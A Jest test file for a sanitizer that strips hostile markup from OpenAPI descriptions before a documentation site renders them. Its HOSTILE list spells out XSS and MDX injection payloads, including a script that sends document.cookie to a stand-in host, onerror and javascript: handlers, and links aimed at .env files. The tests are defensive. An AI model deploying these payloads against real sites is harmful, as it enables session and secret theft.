/**
 * @jest-environment node
 *
 * The OpenAPI description's texts held to an allow-list (../sanitize.ts): each hostile form a provider's
 * description could carry comes out of the reference's renderers clean (the build's page check finds
 * nothing), what the allow-list keeps stays, and a text with nothing to drop stays word for word.
 */
import { execFileSync } from 'node:child_process';
import path from 'node:path';

interface Result {
  text: string;
  dropped: string[];
  themeHtml: string;
  mdxHtml: string;
  problems: string[];
  ranCode: boolean;
}

function sanitized(texts: string[]): {
  results: Result[];
  vendoredUnchanged: boolean;
  links: { doc: unknown; findings: { pointer: string; dropped: string[] }[] };
} {
  const out = execFileSync(process.execPath, [require.resolve('tsx/cli'), path.join(__dirname, 'sanitizeSample.mts')], {
    input: JSON.stringify(texts),
    cwd: path.resolve(__dirname, '../../..'),
    encoding: 'utf8',
  });
  return JSON.parse(out);
}

const HOSTILE = [
  'Searches. <script>$RX=0;location="//x.example/?"+document.cookie</script>',
  'Searches. <meta http-equiv="refresh" content="0;url=https://x.example">',
  'Searches. <iframe src="https://x.example"></iframe>',
  'Searches. <img src="https://example.com/logo.png" onerror="location=\'//x.example\'">',
  // Relative: Docusaurus would resolve it against the build machine's files and bundle what it finds.
  'Searches. ![x](../../.env) and [keys](../../../.env.local)',
  'Searches. <a href="javascript:location=\'//x.example\'">Docs</a> and [more](javascript:alert(1)).',
  'Searches. <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  // Code for MDX, which the plugin's generated page compiles into the page's bundle.
  'Searches.\n\nexport const x = (globalThis.pwned = "export")',
  'Searches. ``{(globalThis.pwned = "expression")}` and {(globalThis.pwned = 2)}',
  'Searches. <b title={(globalThis.pwned = "attribute")}>x</b>',
];
/** The theme writes an admonition's content as HTML unescaped: a `&lt;` there would become a tag. */
const ADMONITION = ':::note[Careful]\nUse `<img src=x onerror=alert(1)>` or &lt;b&gt; with care.\n:::';
/** The one-paragraph form the theme reads too. */
const INLINE_ADMONITION = ':::note Use &lt;img src=x onerror=alert(1)&gt; with care. :::';
const SAFE_ADMONITION = ':::note[Pages]\n\nPages start at 1.\n\n:::';
const SAFE = [
  SAFE_ADMONITION,
  'Uses `page` and **bold**, `{"count": n}` and <https://example.com>.',
  '| a | b |\n| - | - |\n| 1 | 2 |',
];
/** Inline HTML the allow-list keeps: JSX in a generated page, so written as Markdown there. */
const INLINE_HTML = 'Uses <b>inline</b> HTML and {braces}.';

const { results, vendoredUnchanged, links } = sanitized([
  ...HOSTILE,
  ADMONITION,
  INLINE_ADMONITION,
  ...SAFE,
  INLINE_HTML,
]);

describe('sanitizeContract and the reference’s renderers', () => {
  it.each(HOSTILE.map((text, n) => [text, results[n]] as const))(
    'a description holding %j comes out clean, saying what it dropped',
    (_text, result) => {
      expect(result.problems).toEqual([]);
      expect(result.ranCode).toBe(false);
      expect(result.dropped.length).toBeGreaterThan(0);
      expect(result.text).toMatch(/^Searches\./);
      for (const html of [result.themeHtml, result.mdxHtml])
        expect(html).not.toMatch(/<script|<iframe|<meta|onerror|javascript:/i);
    },
  );

  it('keeps what the allow-list allows: the link text, an absolute image', () => {
    expect(results[3].text).toContain('![](https://example.com/logo.png)');
    expect(results[5].themeHtml).toContain('Docs');
  });

  it('drops a relative image and a relative link’s destination, keeping the link’s text', () => {
    expect(results[4].text).toBe('Searches. and keys');
    expect(results[4].dropped).toEqual([
      'img (relative: only absolute URLs)',
      'a[href] (relative: only absolute URLs)',
    ]);
  });

  it('writes inline HTML as Markdown and braces as references, which the plugin’s clean() leaves alone', () => {
    const result = results[results.length - 1];
    expect([result.text, result.dropped]).toEqual([
      'Uses **inline** HTML and &#123;braces&#125;.',
      ['inline HTML, now Markdown'],
    ]);
    expect(result.mdxHtml).toBe('<p>Uses <strong>inline</strong> HTML and {braces}.</p>');
  });

  it('writes an admonition whose text holds markup as a bold label, so the theme renders its content escaped', () => {
    const result = results[HOSTILE.length];
    expect(result.text).toBe('**Careful:**\nUse `<img src=x onerror=alert(1)>` or &lt;b&gt; with care.');
    expect(result.dropped).toEqual(['admonition (its text holds < or ")']);
    expect(result.problems).toEqual([]);
    const inline = results[HOSTILE.length + 1];
    expect([inline.text, inline.dropped]).toEqual([
      '**Note:** Use &lt;img src=x onerror=alert(1)&gt; with care.',
      ['admonition (its text holds < or ")'],
    ]);
  });

  it('drops a link that is no http, https or mailto URL, saying which, and leaves the servers to the build', () => {
    expect(links.doc).toEqual({
      info: { contact: {}, license: { url: 'https://example.com/l' } },
      externalDocs: { url: 'mailto:docs@example.com' },
      servers: [{ url: '/api/v1/customer' }],
    });
    expect(links.findings).toEqual([
      { pointer: '/info/contact/url', dropped: ['url ("javascript:alert(1)" is no http, https or mailto URL)'] },
      { pointer: '/info/termsOfService', dropped: ['termsOfService ("data:x" is no http, https or mailto URL)'] },
    ]);
  });

  it('leaves a text with nothing to drop word for word, and the vendored contract as it is', () => {
    expect(results.slice(HOSTILE.length + 2, -1).map((result) => [result.text, result.dropped])).toEqual(
      SAFE.map((text) => [text, []]),
    );
    expect(vendoredUnchanged).toBe(true);
  });
});
